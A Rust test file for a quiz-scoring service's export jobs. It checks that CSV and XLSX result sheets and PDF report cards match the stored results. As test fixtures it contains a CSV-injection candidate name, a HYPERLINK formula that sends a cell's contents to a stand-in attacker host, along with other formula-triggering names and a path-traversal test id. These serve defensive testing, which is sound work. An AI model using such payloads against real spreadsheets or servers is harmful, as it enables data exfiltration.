//! The `export.*` jobs through the daemon, and `quizworker export ...` without it (issue 5).

mod common;

use std::path::{Path, PathBuf};

use common::TestEnv;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use sqlx::PgPool;

/// Two sections of one-mark MCQs at -1/3: totals in thirds, negative ones included.
fn test_def(test_id: &str) -> Value {
    json!({
        "test_id": test_id, "key_version": 1,
        "marking": {"correct": 1, "incorrect": "-1/3"},
        "sections": [
            {"id": "maths", "questions": [
                {"id": "m1", "type": "mcq", "answer": "A"},
                {"id": "m2", "type": "mcq", "answer": "B"},
                {"id": "m3", "type": "mcq", "answer": "C"}
            ]},
            {"id": "physics", "questions": [
                {"id": "p1", "type": "mcq", "answer": "D"},
                {"id": "p2", "type": "mcq", "answer": "A"}
            ]}
        ]
    })
}

/// Candidates whose names a spreadsheet or a naive CSV writer gets wrong.
const CANDIDATES: [&str; 10] = [
    "Doe, Jane",
    "O\"Brien \"Bob\"",
    "line one\nline two\r\nthree",
    "नेहा शर्मा",
    "王芳",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "-2+3",
    "@SUM(A1:A9)",
    "+91 98765 43210",
    "\tTabbed",
];

/// Attempt `i`'s answers: a spread of right, wrong and skipped, so marks go negative too.
fn answers(i: usize) -> Vec<(&'static str, &'static str)> {
    let all = [
        ("m1", ["A", "B", "A", "C"]),
        ("m2", ["B", "C", "A", ""]),
        ("m3", ["C", "A", "", "B"]),
        ("p1", ["D", "A", "D", ""]),
        ("p2", ["B", "A", "", "C"]),
    ];
    all.iter()
        .map(|(q, options)| (*q, options[i % options.len()]))
        .filter(|(_, a)| !a.is_empty())
        .collect()
}

fn attempt(test_id: &str, i: usize) -> Value {
    let responses: Vec<Value> = answers(i)
        .iter()
        .map(|(q, a)| json!({"question": q, "answer": a}))
        .collect();
    json!({"attempt_id": format!("att-{i:02}"), "test_id": test_id,
           "candidate_id": CANDIDATES[i], "responses": responses})
}

/// Scores every candidate's attempt through `score.attempt` jobs, then finalizes the test.
async fn score_all(env: &TestEnv, test_id: &str) {
    let mut ids = Vec::new();
    for i in 0..CANDIDATES.len() {
        let payload = json!({
            "test": test_def(test_id),
            "attempt": attempt(test_id, i),
            "submitted_at": format!("2026-11-22T09:{i:02}:30Z"),
        });
        ids.push(env.enqueue("score.attempt", &payload.to_string(), &[]));
    }
    for id in &ids {
        env.wait_for_state(id, "completed").await;
    }
    let id = env.enqueue(
        "score.finalize_test",
        &json!({"test_id": test_id}).to_string(),
        &[],
    );
    env.wait_for_state(&id, "completed").await;
}

/// What OWASP's neutralising makes of a text cell.
fn neutralised(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

fn display(marks: &str, decimals: u32) -> String {
    let marks: quizworker_jobs::scoring::Marks = marks.parse().unwrap();
    marks.display(decimals).to_string()
}

/// Checks the job's record of its file against the file itself, and returns the file's bytes.
fn check_file(result: &Value, dir: &Path) -> Vec<u8> {
    let path = PathBuf::from(result["path"].as_str().expect("a path"));
    assert_eq!(
        path.parent().unwrap().canonicalize().unwrap(),
        dir.canonicalize().unwrap(),
        "{result}"
    );
    let bytes = std::fs::read(&path).unwrap();
    assert_eq!(result["bytes"], bytes.len() as u64);
    assert_eq!(result["sha256"], hex::encode(Sha256::digest(&bytes)));
    bytes
}

#[derive(Debug, sqlx::FromRow)]
struct Stored {
    attempt_id: String,
    candidate_id: Option<String>,
    rank: Option<i32>,
    percentile: Option<String>,
    marks: String,
    max_marks: String,
    result: Value,
    submitted_at: Option<chrono::DateTime<chrono::Utc>>,
}

async fn stored(env: &TestEnv, test_id: &str) -> Vec<Stored> {
    sqlx::query_as(
        "SELECT r.attempt_id, r.candidate_id, r.rank, r.percentile, r.marks, r.max_marks,
                r.result, a.submitted_at
           FROM score_results r JOIN score_attempts a USING (attempt_id)
          WHERE r.test_id = $1 ORDER BY r.rank, r.attempt_id",
    )
    .bind(test_id)
    .fetch_all(&env.pool)
    .await
    .unwrap()
}

#[sqlx::test]
async fn a_results_sheet_reads_back_as_the_stored_results(pool: PgPool) {
    let env = TestEnv::new(pool).await;
    let _daemon = env.spawn_daemon_with_exports();
    score_all(&env, "mock-1").await;

    let payload = json!({"test_id": "mock-1",
                         "options": {"bom": true, "exact_fractions": true, "decimals": 2}});
    let id = env.enqueue("export.results_csv", &payload.to_string(), &[]);
    let job = env.wait_for_state(&id, "completed").await;
    assert_eq!(job.progress, 100);
    let result = job.result.unwrap();
    assert_eq!(result["rows"], CANDIDATES.len());
    let bytes = check_file(&result, &env.exports_dir());
    let text = std::str::from_utf8(&bytes).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("a byte-order mark");
    assert!(text.ends_with("\r\n"), "RFC 4180 line ends");

    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(
        header,
        [
            "attempt_id",
            "candidate",
            "rank",
            "percentile",
            "marks",
            "marks_exact",
            "max_marks",
            "max_marks_exact",
            "maths marks",
            "maths marks_exact",
            "physics marks",
            "physics marks_exact",
            "correct",
            "incorrect",
            "partial",
            "unattempted",
            "accuracy_percent",
            "submitted_at"
        ]
    );
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let stored = stored(&env, "mock-1").await;
    assert_eq!(records.len(), stored.len());
    let mut negative_seen = false;
    for (record, s) in records.iter().zip(&stored) {
        let cell = |name: &str| &record[header.iter().position(|h| h == name).unwrap()];
        let r = &s.result;
        assert_eq!(cell("attempt_id"), s.attempt_id);
        assert_eq!(
            cell("candidate"),
            neutralised(s.candidate_id.as_deref().unwrap())
        );
        assert_eq!(cell("rank"), s.rank.unwrap().to_string());
        assert_eq!(cell("percentile"), s.percentile.as_deref().unwrap());
        assert_eq!(cell("marks"), display(&s.marks, 2));
        assert_eq!(cell("max_marks"), display(&s.max_marks, 2));
        // A fraction is text behind an apostrophe (4/3 would be a date), whatever its sign.
        let exact = |m: &str| {
            if m.contains('/') {
                format!("'{m}")
            } else {
                m.to_owned()
            }
        };
        assert_eq!(cell("marks_exact"), exact(&s.marks));
        for (i, section) in ["maths", "physics"].iter().enumerate() {
            let marks = r["sections"][i]["marks"].as_str().unwrap();
            assert_eq!(cell(&format!("{section} marks")), display(marks, 2));
            assert_eq!(cell(&format!("{section} marks_exact")), exact(marks));
        }
        for count in ["correct", "incorrect", "partial", "unattempted"] {
            assert_eq!(cell(count), r["counts"][count].to_string(), "{count}");
        }
        assert_eq!(
            cell("accuracy_percent"),
            r["accuracy_percent"].as_str().unwrap_or("")
        );
        let submitted: chrono::DateTime<chrono::Utc> = cell("submitted_at").parse().unwrap();
        assert_eq!(Some(submitted), s.submitted_at);
        if s.marks.starts_with('-') {
            negative_seen = true;
            // A negative total is a plain number in the file: not quoted, not neutralised.
            assert!(
                text.contains(&format!(",{},", display(&s.marks, 2))),
                "{text}"
            );
        }
    }
    assert!(negative_seen, "the test data should have a negative total");
    // Ranks come first: the sheet is in rank order.
    let ranks: Vec<i64> = records.iter().map(|r| r[2].parse().unwrap()).collect();
    assert!(ranks.windows(2).all(|w| w[0] <= w[1]), "{ranks:?}");
}

#[sqlx::test]
async fn an_unknown_test_fails_at_once_and_no_test_id_escapes_the_directory(pool: PgPool) {
    let env = TestEnv::new(pool).await;
    let _daemon = env.spawn_daemon_with_exports();

    let id = env.enqueue("export.results_csv", r#"{"test_id": "no-such-test"}"#, &[]);
    let job = env.wait_for_state(&id, "failed").await;
    assert_eq!(job.attempts, 1, "an unknown test is not retried");
    let error = job.last_error.unwrap();
    assert!(error.contains("unknown test `no-such-test`"), "{error}");

    let bad_options = json!({"test_id": "x", "options": {"delimiter": "="}});
    let id = env.enqueue("export.results_csv", &bad_options.to_string(), &[]);
    let job = env.wait_for_state(&id, "failed").await;
    assert_eq!(job.attempts, 1);

    // A test id made to climb out of the export directory.
    let sneaky = "../../escaped/../x";
    score_all(&env, sneaky).await;
    let payload = json!({"test_id": sneaky, "options": {"delimiter": ";"}});
    let first = env.enqueue("export.results_csv", &payload.to_string(), &[]);
    let second = env.enqueue("export.results_csv", &payload.to_string(), &[]);
    let mut paths = Vec::new();
    for id in [first, second] {
        let result = env.wait_for_state(&id, "completed").await.result.unwrap();
        check_file(&result, &env.exports_dir());
        paths.push(result["path"].as_str().unwrap().to_owned());
    }
    assert_ne!(paths[0], paths[1], "two exports never share a file");
    let outside: Vec<String> = std::fs::read_dir(env.dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| !name.starts_with("daemon-") && name != "config.toml" && name != "exports")
        .collect();
    assert!(
        outside.is_empty(),
        "files outside the directory: {outside:?}"
    );
    assert!(!env.dir.path().join("escaped").exists());
    let inside = std::fs::read_dir(env.exports_dir()).unwrap().count();
    assert_eq!(inside, 2, "no temporary file is left behind");
}

#[sqlx::test]
async fn the_command_line_exports_without_the_daemon(pool: PgPool) {
    let env = TestEnv::new(pool).await;
    {
        let _daemon = env.spawn_daemon_with_exports();
        score_all(&env, "mock-cli").await;
    }
    let out = env.dir.path().join("by-hand");
    let result = env.cli_json(&[
        "export",
        "results-csv",
        "mock-cli",
        "--out",
        out.to_str().unwrap(),
        "--delimiter",
        "|",
        "--decimals",
        "3",
    ]);
    assert_eq!(result["rows"], CANDIDATES.len());
    let bytes = check_file(&result, &out);
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b'|')
        .from_reader(bytes.as_slice());
    let candidates: Vec<String> = reader.records().map(|r| r.unwrap()[1].to_owned()).collect();
    let mut expected: Vec<String> = CANDIDATES.iter().map(|c| neutralised(c)).collect();
    let mut got = candidates.clone();
    expected.sort();
    got.sort();
    assert_eq!(got, expected);

    let output = env.cli(&[
        "export",
        "results-csv",
        "nope",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("unknown test `nope`"), "{stderr}");
}

/// Exports an attempt's report card, checks the file is a sound PDF, and returns the job's
/// result and the PDF's text.
async fn report_card(env: &TestEnv, attempt_id: &str) -> (Value, String) {
    let payload = json!({"attempt_id": attempt_id}).to_string();
    let id = env.enqueue("export.report_pdf", &payload, &[]);
    let result = env.wait_for_state(&id, "completed").await.result.unwrap();
    check_file(&result, &env.exports_dir());
    let path = result["path"].as_str().unwrap();
    common::tool("qpdf", &["--check", path]);
    let text = common::tool("pdftotext", &["-enc", "UTF-8", path, "-"]);
    (result, text)
}

#[sqlx::test]
async fn report_cards_print_names_in_any_script_and_every_question(pool: PgPool) {
    let env = TestEnv::new(pool).await;
    let _daemon = env.spawn_daemon_with_exports();
    score_all(&env, "mock-pdf").await;
    let stored = stored(&env, "mock-pdf").await;

    for attempt_id in ["att-00", "att-03", "att-04", "att-05"] {
        let (result, text) = report_card(&env, attempt_id).await;
        let s = stored.iter().find(|s| s.attempt_id == attempt_id).unwrap();
        assert_eq!(result["pages"], 1, "{result}");
        assert_eq!(result["warnings"], json!([]), "{result}");
        let candidate = s.candidate_id.as_deref().unwrap();
        let card_marks = |m: &str| quizworker_jobs::exports::card_text::marks(m.parse().unwrap());
        let total = format!(
            "{} out of {}",
            card_marks(&s.marks),
            card_marks(&s.max_marks)
        );
        let rank = s.rank.unwrap().to_string();
        let percentile =
            quizworker_jobs::exports::card_text::percentile(s.percentile.as_deref().unwrap())
                .unwrap();
        for expected in [
            "Report card",
            candidate,
            total.as_str(),
            rank.as_str(),
            percentile.as_str(),
        ] {
            assert!(
                text.contains(expected),
                "{attempt_id}: no {expected:?} in\n{text}"
            );
        }
        for (question, outcome) in s.result["sections"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|s| s["questions"].as_array().unwrap())
            .map(|q| (q["id"].as_str().unwrap(), q["outcome"].as_str().unwrap()))
        {
            let row = text
                .lines()
                .any(|line| line.split_whitespace().any(|w| w == question));
            assert!(row, "{attempt_id}: no row of {question} in\n{text}");
            assert!(text.contains(outcome), "{attempt_id}: {outcome}");
        }
    }

    let id = env.enqueue("export.report_pdf", r#"{"attempt_id": "att-none"}"#, &[]);
    let job = env.wait_for_state(&id, "failed").await;
    assert_eq!(job.attempts, 1);
    assert!(
        job.last_error
            .unwrap()
            .contains("unknown attempt `att-none`"),
        "a clear error"
    );
}

#[sqlx::test]
async fn a_long_report_card_repeats_its_table_header_on_every_page(pool: PgPool) {
    let env = TestEnv::new(pool).await;
    let _daemon = env.spawn_daemon_with_exports();
    let questions: Vec<Value> = (1..=150)
        .map(|i| json!({"id": format!("q{i:03}"), "type": "mcq", "answer": "A"}))
        .collect();
    let test = json!({
        "test_id": "long", "key_version": 1, "title": "Long mock",
        "marking": {"correct": 4, "incorrect": -1},
        "sections": [{"id": "all", "questions": questions}]
    });
    let responses: Vec<Value> = (1..=150)
        .filter(|i| i % 3 != 0)
        .map(|i| json!({"question": format!("q{i:03}"), "answer": if i % 2 == 0 {"A"} else {"B"}}))
        .collect();
    // Tamil, which the default Noto fonts print.
    let payload = json!({"test": test, "attempt": {
        "attempt_id": "long-1", "candidate_id": "Selvi தமிழ்", "responses": responses}});
    let id = env.enqueue("score.attempt", &payload.to_string(), &[]);
    env.wait_for_state(&id, "completed").await;

    let (result, text) = report_card(&env, "long-1").await;
    let pages = result["pages"].as_u64().unwrap();
    assert!(pages >= 3, "150 questions take pages: {result}");
    for i in 1..=150 {
        let question = format!("q{i:03}");
        assert!(
            text.lines()
                .any(|line| line.split_whitespace().any(|w| w == question)),
            "no row of {question}"
        );
    }
    let headers = text.matches("Outcome").count() as u64;
    assert!(headers >= pages - 1, "{headers} headers on {pages} pages");
    assert!(text.contains(&format!("Page {pages} of {pages}")), "{text}");
    assert!(
        text.contains("Long mock") && text.contains("Selvi தமிழ்"),
        "{text}"
    );
    assert_eq!(result["warnings"], json!([]), "{result}");
}

#[sqlx::test]
async fn a_test_report_shows_the_distribution_sections_and_extreme_questions(pool: PgPool) {
    let env = TestEnv::new(pool).await;
    let _daemon = env.spawn_daemon_with_exports();
    score_all(&env, "mock-report").await;

    let payload = json!({"test_id": "mock-report"}).to_string();
    let id = env.enqueue("export.test_report_pdf", &payload, &[]);
    let result = env.wait_for_state(&id, "completed").await.result.unwrap();
    check_file(&result, &env.exports_dir());
    let path = result["path"].as_str().unwrap();
    common::tool("qpdf", &["--check", path]);
    let text = common::tool("pdftotext", &["-enc", "UTF-8", path, "-"]);
    let (statistics,): (Value,) =
        sqlx::query_as("SELECT statistics FROM score_test_reports WHERE test_id = 'mock-report'")
            .fetch_one(&env.pool)
            .await
            .unwrap();
    let candidates = CANDIDATES.len().to_string();
    for expected in [
        "Test report",
        "Score distribution",
        "Section averages",
        "Hardest questions",
        "Easiest questions",
        "maths",
        "physics",
        candidates.as_str(),
        statistics["mean_display"].as_str().unwrap(),
    ] {
        assert!(text.contains(expected), "no {expected:?} in\n{text}");
    }
    for question in ["m1", "m2", "m3", "p1", "p2"] {
        assert!(
            text.split_whitespace().any(|w| w == question),
            "no {question} in\n{text}"
        );
    }

    let id = env.enqueue(
        "export.test_report_pdf",
        r#"{"test_id": "never-finalized"}"#,
        &[],
    );
    let job = env.wait_for_state(&id, "failed").await;
    assert_eq!(job.attempts, 1);
    assert!(job.last_error.unwrap().contains("never-finalized"));
}

/// The cells of the first sheet of an xlsx file: (reference, type attribute, value), strings
/// resolved through the shared strings table.
fn xlsx_cells(path: &str) -> Vec<(String, String, String)> {
    let sheet = common::tool("unzip", &["-p", path, "xl/worksheets/sheet1.xml"]);
    let shared = std::process::Command::new("unzip")
        .args(["-p", path, "xl/sharedStrings.xml"])
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default();
    let strings: Vec<String> = shared
        .split("<si>")
        .skip(1)
        .map(|si| between(si, "<t", "</t>").map(after_tag).unwrap_or_default())
        .collect();
    sheet
        .split("<c ")
        .skip(1)
        .map(|c| {
            let head = &c[..c.find('>').unwrap()];
            let reference = between(head, "r=\"", "\"").unwrap_or_default();
            let kind = between(head, "t=\"", "\"").unwrap_or_default();
            let value = match kind.as_str() {
                "s" => {
                    strings[between(c, "<v>", "</v>").unwrap().parse::<usize>().unwrap()].clone()
                }
                "inlineStr" | "str" => between(c, "<t", "</t>").map(after_tag).unwrap_or_default(),
                _ => between(c, "<v>", "</v>").unwrap_or_default(),
            };
            (reference, kind, value)
        })
        .collect()
}

fn between(text: &str, start: &str, end: &str) -> Option<String> {
    let from = text.find(start)? + start.len();
    let to = from + text[from..].find(end)?;
    Some(text[from..to].to_owned())
}

/// `<t xml:space="preserve">x` without its tag's rest: `x`.
fn after_tag(text: String) -> String {
    text.split_once('>')
        .map_or(text.clone(), |(_, t)| t.to_owned())
}

#[sqlx::test]
async fn an_xlsx_sheet_has_typed_cells_a_frozen_header_and_fractions_as_text(pool: PgPool) {
    let env = TestEnv::new(pool).await;
    let _daemon = env.spawn_daemon_with_exports();
    score_all(&env, "mock-xlsx").await;
    let payload = json!({"test_id": "mock-xlsx",
                         "options": {"format": "xlsx", "exact_fractions": true}});
    let id = env.enqueue("export.results_csv", &payload.to_string(), &[]);
    let result = env.wait_for_state(&id, "completed").await.result.unwrap();
    assert_eq!(result["format"], "xlsx");
    assert_eq!(result["rows"], CANDIDATES.len());
    check_file(&result, &env.exports_dir());
    let path = result["path"].as_str().unwrap();
    assert!(path.ends_with(".xlsx"), "{path}");

    let sheet = common::tool("unzip", &["-p", path, "xl/worksheets/sheet1.xml"]);
    assert!(
        sheet.contains("ySplit=\"1\"") && sheet.contains("state=\"frozen\""),
        "header frozen"
    );
    assert!(
        sheet.contains("<col ") && sheet.contains("customWidth=\"1\""),
        "widths set"
    );
    let cells = xlsx_cells(path);
    let header: Vec<&str> = cells
        .iter()
        .filter(|(r, _, _)| {
            r.ends_with('1') && r[..r.len() - 1].chars().all(|c| c.is_ascii_uppercase())
        })
        .map(|(_, _, v)| v.as_str())
        .collect();
    assert!(
        header.contains(&"partial") && header.contains(&"marks_exact"),
        "{header:?}"
    );
    let column = |name: &str| {
        let i = header.iter().position(|h| *h == name).unwrap();
        char::from(b'A' + i as u8).to_string()
    };
    let in_column = |col: &str| -> Vec<&(String, String, String)> {
        cells
            .iter()
            .filter(|(r, _, _)| {
                r.strip_prefix(col)
                    .is_some_and(|n| n.parse::<u32>().is_ok_and(|n| n > 1))
            })
            .collect()
    };
    let stored = stored(&env, "mock-xlsx").await;
    // Marks are number cells, negative ones too; exact fractions are text cells, as stored.
    let marks = in_column(&column("marks"));
    assert_eq!(marks.len(), stored.len());
    for (_, kind, value) in &marks {
        assert!(
            kind.is_empty() || kind == "n",
            "a number cell: {kind} {value}"
        );
        value.parse::<f64>().unwrap();
    }
    assert!(
        marks.iter().any(|(_, _, v)| v.starts_with('-')),
        "a negative total"
    );
    let exact = in_column(&column("marks_exact"));
    let fractions: Vec<&str> = exact
        .iter()
        .filter(|(_, _, v)| v.contains('/'))
        .map(|(_, kind, v)| {
            assert!(
                kind == "s" || kind == "inlineStr" || kind == "str",
                "text: {kind} {v}"
            );
            v.as_str()
        })
        .collect();
    assert!(!fractions.is_empty());
    for fraction in fractions {
        assert!(
            stored.iter().any(|s| s.marks == fraction),
            "{fraction} is a stored total, without an apostrophe"
        );
    }
    // Names are text as given: no formula, no apostrophe.
    let names: Vec<&str> = in_column(&column("candidate"))
        .iter()
        .map(|(_, _, v)| v.as_str())
        .collect();
    assert!(names.contains(&"नेहा शर्मा") && names.iter().any(|n| n.starts_with("=HYPERLINK")));
    assert!(!sheet.contains("<f>"), "no formulas");
}
